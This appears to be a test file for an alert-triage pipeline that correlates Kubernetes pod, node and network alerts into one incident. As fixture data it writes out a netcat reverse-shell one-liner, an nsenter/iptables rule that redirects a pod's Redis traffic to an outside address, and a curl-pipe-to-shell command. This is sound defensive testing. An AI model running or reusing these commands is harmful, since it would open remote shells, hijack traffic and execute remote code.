import { describe, expect, it } from 'vitest';
import type { Alert } from '../../src/alerts/model.js';
import { BatchCollector } from '../../src/triage/batch.js';
import { ATTACK_SIGNAL_RULES, correlateAlert, triageAlert } from '../../src/triage/pipeline.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../support/cluster.js';

const N1 = 'node-a';
const storefront = pod('storefront-7b9d-h2kqx', {
  namespace: 'web',
  node: N1,
  ip: '10.0.1.23',
  owner: { kind: 'ReplicaSet', name: 'storefront-7b9d' },
  containers: [{ name: 'web', image: 'registry.example/storefront:2.4', command: ['node', '/app/server.js'] }],
});
const cart = pod('cart-5c8f-q2lmx', {
  namespace: 'web',
  node: N1,
  ip: '10.0.1.24',
  owner: { kind: 'ReplicaSet', name: 'cart-5c8f' },
  containers: [{ name: 'cart', image: 'registry.example/cart:1.9', command: ['/app/cart'] }],
});
const index = indexOf([
  node(N1, '10.0.1.10'),
  owner('ReplicaSet', 'storefront-7b9d', 'web', { kind: 'Deployment', name: 'storefront' }),
  owner('Deployment', 'storefront', 'web'),
  owner('ReplicaSet', 'cart-5c8f', 'web', { kind: 'Deployment', name: 'cart' }),
  owner('Deployment', 'cart', 'web'),
  storefront,
  cart,
]);

const at = (time: string) => `2026-11-20T${time}Z`;
const reverseShell = alert({
  host: N1,
  time: at('15:05:12'),
  process: { name: 'sh', commandLine: 'sh -c "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.77 8443 >/tmp/f"' },
  ancestors: [{ name: 'node', commandLine: 'node /app/server.js' }],
  container: { id: containerIdOf(storefront) },
});
/** An NDR's view of the same shell: the node's address (pod egress is SNATed) talking to the attacker, no process. */
const nodeFlow = (time: string) => alert({ host: N1, time: at(time), title: 'Suspicious Remote Control', network: { srcIp: '10.0.1.10', dstIp: '203.0.113.77', dstPort: 8443 } });
const inPod = (p: typeof storefront, time: string, commandLine: string) =>
  alert({ host: N1, time: at(time), process: { name: commandLine.split(' ')[0], commandLine }, ancestors: [{ name: 'sh', commandLine: 'sh' }], container: { id: containerIdOf(p) } });

/** The two passes of a run: the first collects attack sites over the whole export, the second triages each alert. */
function run(alerts: Alert[]) {
  const collector = new BatchCollector(ATTACK_SIGNAL_RULES);
  for (const a of alerts) {
    const placed = correlateAlert(a, { index });
    if (placed) collector.add(a, placed.correlation, placed.index);
  }
  return alerts.map((a) => triageAlert(a, { index, batch: collector.stats }).verdict);
}

describe('alerts of one incident', () => {
  it('a network alert from the node minutes after a reverse shell in one of its pods is part of that attack', () => {
    const [shell, flow] = run([reverseShell, nodeFlow('15:06:40')]);
    expect(shell).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(flow).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(flow.reasons[0]).toMatchObject({ rule: 'same-incident', direction: 'malicious' });
    expect(flow.reasons[0].message).toMatch(/a reverse shell on pod web\/storefront-7b9d-h2kqx \(test\.json record \d+\), this alert 1 min 28 s after it/);
  });
  it('the link is found whichever comes first in the export', () => {
    const [flow] = run([nodeFlow('15:04:30'), reverseShell]);
    expect(flow).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(flow.reasons[0].message).toMatch(/42 s before it/);
  });
  it('stays unexplained outside the window, or with no attack in the export', () => {
    expect(run([reverseShell, nodeFlow('15:20:00')])[1]).toMatchObject({ label: 'genuine', cause: 'unexplained' });
    expect(run([nodeFlow('15:06:40')])[0]).toMatchObject({ label: 'genuine', cause: 'unexplained' });
  });
  it("trap: another pod's alert on the same node is not linked by the node alone", () => {
    const other = run([reverseShell, inPod(cart, '15:06:00', 'whoami')])[1];
    expect(other).toMatchObject({ label: 'genuine', cause: 'unexplained' });
    expect(other.reasons.some((r) => r.rule === 'same-incident')).toBe(false);
  });
  it('an unexplained process in the attacked pod is linked; a benign one keeps its label and its story', () => {
    const [, unexplained, entrypoint] = run([reverseShell, inPod(storefront, '15:07:00', 'whoami'), alert({ host: N1, time: at('15:07:30'), process: { name: 'node', commandLine: 'node /app/server.js' }, container: { id: containerIdOf(storefront) } })]);
    expect(unexplained).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(entrypoint).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('without a first pass (stdin, large exports) nothing is linked', () => {
    expect(triageAlert(nodeFlow('15:06:40'), { index }).verdict).toMatchObject({ label: 'genuine', cause: 'unexplained' });
  });
  // eks-calico-ambient: a NAT rule written from the host into a pod's network namespace sends its Redis traffic outside;
  // the NDR sees that pod's connection to the address the rule named.
  const hijack = alert({
    host: N1,
    time: at('10:47:12'),
    process: { name: 'nsenter', commandLine: 'nsenter -t 188213 -n iptables -t nat -I OUTPUT -p tcp --dport 6379 -j DNAT --to-destination 203.0.113.77:6379' },
    ancestors: [{ name: 'bash', commandLine: 'bash' }],
  });
  const podFlow = (time: string, dstIp: string) => alert({ host: N1, time: at(time), title: 'ET POLICY Redis Outbound to External Network', network: { srcIp: '10.0.1.24', srcPort: 33012, dstIp, dstPort: 6379 } });
  it("a pod's connection to the outside address an attack on its node named is part of that attack", () => {
    const [nat, flow] = run([hijack, podFlow('10:47:31', '203.0.113.77')]);
    expect(nat).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(flow).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(flow.reasons[0].message).toMatch(/which named 203\.0\.113\.77, this connection's destination, this alert 19 s after it/);
  });
  it('trap: another outside address, the same address outside the window, or a private address named by the attack stay unexplained', () => {
    expect(run([hijack, podFlow('10:47:31', '198.51.100.9')])[1]).toMatchObject({ label: 'genuine', cause: 'unexplained' });
    expect(run([hijack, podFlow('11:30:00', '203.0.113.77')])[1]).toMatchObject({ label: 'genuine', cause: 'unexplained' });
    const inside = alert({ host: N1, time: at('10:47:12'), process: { name: 'iptables', commandLine: 'iptables -t nat -I OUTPUT -p tcp --dport 6379 -j DNAT --to-destination 10.0.1.24:6379; curl http://203.0.113.9/x | sh' } });
    expect(run([inside, podFlow('10:47:31', '10.0.1.24')])[1].reasons.some((r) => r.rule === 'same-incident')).toBe(false);
  });
});

describe('the first pass keeps aggregates, not every alert', () => {
  it('at most 256 attacks per place, however many the export holds', () => {
    const collector = new BatchCollector(ATTACK_SIGNAL_RULES);
    for (let i = 0; i < 300; i++) {
      const a = { ...reverseShell, source: { ...reverseShell.source, record: 1000 + i } };
      const placed = correlateAlert(a, { index });
      if (placed) collector.add(a, placed.correlation, placed.index);
    }
    const lengths = [...(collector.stats.attackSites?.values() ?? [])].map((list) => list.length);
    expect(lengths.length).toBeGreaterThan(0);
    expect(Math.max(...lengths)).toBe(256);
  });
});
